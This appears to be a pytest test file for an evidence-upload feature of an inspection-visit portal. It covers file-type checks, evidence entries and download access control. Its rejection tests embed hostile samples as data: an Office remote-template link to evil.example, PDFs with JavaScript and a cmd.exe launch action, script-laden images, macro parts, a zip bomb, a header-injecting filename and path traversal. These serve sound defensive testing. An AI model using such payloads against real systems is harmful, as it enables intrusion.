"""A team's own evidence: kept with its file, answered to its team alone, told apart by author."""

from __future__ import annotations

import io
import time
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook
from PIL import Image

from db.models import VisitFile
from layouts.components.visit_lines import lines
from portal.domain.access import NotAllowed
from portal.domain.pack_sections import notes
from portal.domain.pack_sections.ledger import Ledger
from portal.domain.visits import Entry, Line
from portal.routes import visits as routes
from portal.services.visits import entries as module
from portal.services.visits import files
from portal.services.visits.access import Conflict, ValidationError
from portal.services.visits.entries import Upload
from portal.services.visits.files import MAX_FILE, checked_file
from portal.services.visits.visit import VisitService
from tests.integration.services.visits.conftest import Desk
from tests.support.archives import torn
from tests.support.components import text_of
from tests.support.signing_in import sign_in_client

OFFICE = "application/vnd.openxmlformats-officedocument."
PDF = b"%PDF-1.7\n%\xe2\xe3\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
HEARD = {
    "what": "interview", "title": "Team manager, duty team", "note": "Cases wait a week.",
    "who": "Team manager", "when": "2026-12-01", "why": "The plan says one day.",
    "weighs": "against", "link": "",
}  # fmt: skip


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(out, kind)
    return out.getvalue()


FETCHING = (
    b'<Relationships><Relationship Id="1" TargetMode="External" Target="https://evil.example/t.dotm"'
    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    b"</Relationships>"
)
LINKED = FETCHING.replace(b"attachedTemplate", b"hyperlink")


def workbook(extra: str = "", content_types: str = "", content: bytes = b"x") -> bytes:
    """A workbook, perhaps with a further part, or other words in its list of types."""
    out = io.BytesIO()
    Workbook().save(out)
    if not extra and not content_types:
        return out.getvalue()
    changed = io.BytesIO()
    with zipfile.ZipFile(out) as parts, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as copy:
        for name in parts.namelist():
            data = parts.read(name)
            if name == "[Content_Types].xml" and content_types:
                data = content_types.encode()
            copy.writestr(name, data)
        if extra:
            copy.writestr(extra, content)
    return changed.getvalue()


@pytest.fixture
def line(desk: Desk, visit: str) -> int:
    return desk.services.lines.add_line(desk.anna, visit, "practice", "How are caseloads kept low?")


def line_of(service: VisitService, actor: Any, visit: str, number: int) -> Line:
    return next(x for x in service.visit(actor, visit).lines if x.id == number)


def texts_of(entry: Entry) -> dict[str, str]:
    return {name: written.text for name, written in entry.fields.items()}


@pytest.mark.parametrize(
    ("name", "content", "type_"),
    [
        ("notes.pdf", PDF, "application/pdf"),
        ("packed.pdf", PDF + b"stream\n\x00/JS \xff<svg\x00\nendstream", "application/pdf"),
        ("Photo of a board.JPG", picture("JPEG"), "image/jpeg"),
        ("by chance.jpg", picture("JPEG") + b"\x00<svg\x00/JS ", "image/jpeg"),
        ("chart.png", picture("PNG"), "image/png"),
        ("chart.webp", picture("WEBP"), "image/webp"),
        ("cases.xlsx", workbook(), f"{OFFICE}spreadsheetml.sheet"),
        (
            "a link.xlsx",
            workbook(extra="xl/_rels/a.rels", content=LINKED),
            f"{OFFICE}spreadsheetml.sheet",
        ),
    ],
)
def test_the_type_of_a_file_is_read_from_its_content(name: str, content: bytes, type_: str) -> None:
    assert checked_file(name, content) == type_


@pytest.mark.parametrize(
    ("name", "content", "wrong"),
    [
        ("page.pdf", b"<html><script>alert(1)</script>", "is no PDF"),
        ("run.exe", b"MZ\x90\x00" + b"\0" * 100, "is no PDF"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "is no PDF"),
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "is no PDF"),
        ("report.pdf", picture("PNG"), "holds a PNG picture, which its name does not say"),
        ("page.html", PDF, "holds a PDF, which its name does not say"),
        ("cases.xlsx", workbook(extra="xl/vbaProject.bin"), "holds macros"),
        ("cases.xlsx", workbook(content_types="<a>macroEnabled.main+xml</a>"), "holds macros"),
        ("cases.xlsx", workbook(content_types="<a/>"), "is no PDF"),
        ("cases.xlsx", workbook()[:300], "damaged"),
        ("cases.xlsx", torn(workbook(), "[Content_Types].xml"), "damaged"),
        ("photo.png", picture("PNG")[:-14], "damaged"),
        ("cases.xlsx", workbook(extra="xl/macrosheets/sheet1.xml"), "holds macros"),
        ("cases.xlsx", workbook(extra="xl/activeX/activeX1.bin"), "holds macros"),
        ("cases.xlsx", workbook(extra="xl/_rels/a.rels", content=FETCHING), "from elsewhere"),
        ("script.pdf", PDF + b"<< /S /JavaScript /JS (app.alert(1)) >>", "holds a script"),
        ("start.pdf", PDF + b"<< /S /Launch /F (cmd.exe) >>", "starts a program"),
        ("page.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>", "or a web page"),
        ("two.pdf", PDF + workbook(), "holds a second file"),
        ("two.png", picture("PNG") + workbook(), "holds a second file"),
        ("page.jpg", picture("JPEG") + b"<script>alert(1)</script>", "or a web page"),
        ("page.svg.png", b"<svg xmlns='x'><script>1</script></svg>", "is no PDF"),
        ("empty.pdf", b"", "is empty"),
        ("large.pdf", PDF + b"\0" * MAX_FILE, "larger than 10 MB"),
        ("a\nb.pdf", PDF, "needs a name"),
        (f"{'a' * 120}.pdf", PDF, "needs a name"),
    ],
)
def test_what_is_no_such_file_is_refused_with_its_name(
    name: str, content: bytes, wrong: str
) -> None:
    with pytest.raises(ValidationError, match=wrong):
        checked_file(name, content)


@pytest.mark.parametrize(
    ("part", "content", "wrong"),
    [
        ("xl/_rels/a.RELS", FETCHING, "from elsewhere"),
        ("xl/_rels/a.rels", FETCHING.decode().encode("utf-16"), "from elsewhere"),
        ("xl/_rels/a.rels", FETCHING.replace(b"https", b"&#104;ttps"), "from elsewhere"),
        ("xl/_rels/a.rels", FETCHING.replace(b'Id="1"', b'Id="a>b"'), "from elsewhere"),
        ("xl/_rels/a.rels", FETCHING.replace(b"<Rel", b"<a-b:Rel"), "from elsewhere"),
        ("xl/_rels/a.rels", FETCHING + b" " * 3_000_000, "is no PDF"),
    ],
)
def test_what_is_fetched_is_found_however_it_is_written(
    part: str, content: bytes, wrong: str
) -> None:
    with pytest.raises(ValidationError, match=wrong):
        checked_file("cases.xlsx", workbook(extra=part, content=content))


def test_tags_that_never_end_are_read_once() -> None:
    """A file of a kilobyte: each tag to its end would take minutes, and keep all others waiting."""
    content = workbook(extra="xl/_rels/a.rels", content=b"<Relationship " * 200_000)
    started = time.thread_time()
    assert checked_file("endless.xlsx", content) == f"{OFFICE}spreadsheetml.sheet"
    assert time.thread_time() - started < 2


def test_nothing_is_unpacked_of_a_file_that_holds_too_much(monkeypatch: pytest.MonkeyPatch) -> None:
    content = workbook(extra="xl/bomb.xml", content=b"0" * 2_000_000)
    monkeypatch.setattr(files, "_MOST_UNPACKED", 1_000_000)
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda *_asked: pytest.fail("unpacked"))
    with pytest.raises(ValidationError, match="unpacks to more than 1 MB"):
        checked_file("bomb.xlsx", content)


def test_a_part_that_another_packer_damaged_is_told() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as parts:
        parts.writestr("[Content_Types].xml", "<Types/>" * 100)
    content = out.getvalue()
    start = content.index(b"[Content_Types].xml") + len("[Content_Types].xml") + 9
    for place in range(start, start + 20):
        damaged = bytearray(content)
        damaged[place] ^= 0xFF
        with pytest.raises(ValidationError, match=r"cases\.xlsx"):
            checked_file("cases.xlsx", bytes(damaged))


def test_several_interviews_answer_one_question_and_none_writes_over_another(
    desk: Desk, visit: str, line: int
) -> None:
    entries, services = desk.services.entries, desk.services
    question = services.lines.add_question(desk.anna, visit, line)
    first = entries.add_evidence(desk.anna, visit, HEARD, question)
    second = entries.add_evidence(desk.ben, visit, {"note": "Never waited."}, question)
    on_line = entries.add_evidence(desk.ben, visit, {"link": "https://example.org/x"}, line)
    shown = line_of(services.visits, desk.ben, visit, line)
    answers = shown.questions[0].answers
    assert [(answer.id, answer.added_by) for answer in answers] == [
        (first, "anna"), (second, "ben"),
    ]  # fmt: skip
    assert texts_of(answers[0]) == {name: text for name, text in HEARD.items() if text}
    assert [entry.id for entry in shown.every_own] == [on_line, first, second]
    page = text_of(lines(services.visits.visit(desk.ben, visit)))
    for words in ("Cases wait a week.", "Never waited.", "https://example.org/x", "1 December 2026",
                  "The plan says one day.", "added by ben"):  # fmt: skip
        assert words in page
    pack = notes.lines(services.visits.visit(desk.ben, visit), Ledger({}))
    assert "Interview: Team manager, duty team" in str(pack)
    assert "Never waited." in str(pack)
    # Its words have versions and conflicts as every text has.
    entries.write(desk.anna, visit, first, "note", "Cases wait two weeks.", 1)
    with pytest.raises(Conflict):
        entries.write(desk.ben, visit, first, "note", "Cases wait a day.", 1)
    assert len(entries.history(desk.ben, visit, second, "note")) == 1


def test_it_is_put_under_lines_taken_away_and_put_back(desk: Desk, visit: str, line: int) -> None:
    entries, services = desk.services.entries, desk.services
    piece = entries.add_evidence(desk.anna, visit, {"note": "Seen on a board."})

    def unsorted() -> list[int]:
        return [entry.id for entry in services.visits.visit(desk.ben, visit).unsorted_own]

    assert unsorted() == [piece]
    entries.put_under(desk.ben, visit, piece, line)
    assert unsorted() == []
    services.entries.remove(desk.anna, visit, line)
    assert unsorted() == [piece]
    # Still written on, although its line is gone.
    assert entries.write(desk.ben, visit, piece, "why", "Nobody reads it.", 0).version == 1
    entries.remove(desk.ben, visit, piece)
    assert unsorted() == []
    entries.put_back(desk.ben, visit, piece)
    assert unsorted() == [piece]
    for wrong in (piece, 999_999):
        with pytest.raises(NotAllowed):
            entries.put_under(desk.ben, visit, piece, wrong)
    with pytest.raises(NotAllowed):
        entries.put_under(desk.ben, visit, line, None)


@pytest.mark.parametrize(
    ("fields", "wrong"),
    [
        ({}, "Write what was seen or heard"),
        ({"title": "Only a title"}, "Write what was seen or heard"),
        ({"note": "x", "what": "rumour"}, "“rumour” is none of the choices"),
        ({"note": "x", "when": "yesterday"}, "“yesterday” is not a date"),
        ({"note": "x", "link": "javascript:alert(1)"}, "is no address"),
        ({"note": "x", "link": "//evil.example"}, "is no address"),
        ({"note": "x", "title": "y" * 301}, "301 characters"),
        ({"note": "x", "weighs": "much"}, "“much” is none of the choices"),
    ],
)
def test_what_says_nothing_or_something_else_is_refused_and_nothing_remains(
    desk: Desk, visit: str, fields: dict[str, str], wrong: str
) -> None:
    with pytest.raises(ValidationError, match=wrong):
        desk.services.entries.add_evidence(desk.anna, visit, fields)
    assert desk.services.visits.visit(desk.anna, visit).unsorted_own == ()


def test_a_file_is_a_download_for_the_team_alone(
    desk: Desk, visit: str, portal: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(routes, "MAX_FILE", 10_000)
    monkeypatch.setattr(routes, "_MOST_FORM", 10_000)
    client = portal.server.test_client()
    token = {"X-CSRFToken": sign_in_client(client, "ben")}
    address = f"/visits/{visit}/evidence"

    def send(name: str, content: bytes, **more: Any) -> Any:
        data = {**HEARD, "file": (io.BytesIO(content), name)}
        return client.post(address, data=data, headers=more.get("headers", token))

    assert send("a.pdf", PDF, headers={}).status_code == 400  # without the token
    assert "is no PDF" in send("a.pdf", b"<html>").json["error"]
    assert "is larger than" in send("a.pdf", PDF + b"\0" * 30_000).json["error"]
    assert desk.services.visits.visit(desk.anna, visit).unsorted_own == ()
    assert send("Bericht “1”.pdf", PDF).status_code == 200
    entry = desk.services.visits.visit(desk.anna, visit).unsorted_own[0]
    assert entry.file is not None
    assert (entry.file.name, entry.file.size) == ("Bericht “1”.pdf", len(PDF))
    path = f"/visits/{visit}/files/{entry.file.id}"
    answer = client.get(path)
    assert answer.data == PDF
    assert answer.headers["Content-Type"] == "application/pdf"
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"
    assert "sandbox" in answer.headers["Content-Security-Policy"]

    assert "cannot be read" in send("a\r\nSet-Cookie: x=1.pdf", PDF).json["error"]
    assert send("..\\..\\folder/plan.pdf", PDF).status_code == 200
    last = desk.services.visits.visit(desk.anna, visit).unsorted_own[-1]
    assert last.file is not None
    assert last.file.name == "plan.pdf"

    stranger = portal.server.test_client()
    assert stranger.get(path).status_code == 401
    sign_in_client(stranger, "outsider")
    assert stranger.get(path).status_code == 403
    other = desk.services.visits.create(desk.outsider, "torbay", "Another visit")
    assert stranger.get(f"/visits/{other}/files/{entry.file.id}").status_code == 403
    desk.services.entries.remove(desk.anna, visit, entry.id)
    assert client.get(path).status_code == 403


def test_files_of_a_visit_have_a_limit_together(
    desk: Desk, visit: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(module, "MAX_FILES", len(PDF) + 1)
    add = desk.services.entries.add_evidence
    entry = add(desk.anna, visit, {}, upload=Upload("a.pdf", PDF))
    with pytest.raises(ValidationError, match="together"):
        add(desk.anna, visit, {}, upload=Upload("b.pdf", PDF))
    with desk.sessions() as session:
        held = session.query(VisitFile).filter_by(visit_id=visit).all()
    assert [(row.entry_id, row.name) for row in held] == [(entry, "a.pdf")]


def test_gathered_evidence_speaks_for_or_against(desk: Desk, visit: str, line: int) -> None:
    services = desk.services
    services.gathering.gather(desk.anna, visit, "item", "plymouth-2015/afi-9", "/plans", line)
    piece = line_of(services.visits, desk.anna, visit, line).evidence[0]
    services.gathering.weigh(desk.ben, visit, piece.id, "against")
    assert line_of(services.visits, desk.anna, visit, line).evidence[0].weighs == "against"
    assert "Against the line" in text_of(lines(services.visits.visit(desk.ben, visit)))
    with pytest.raises(ValidationError, match="for a line, against it"):
        services.gathering.weigh(desk.ben, visit, piece.id, "much")
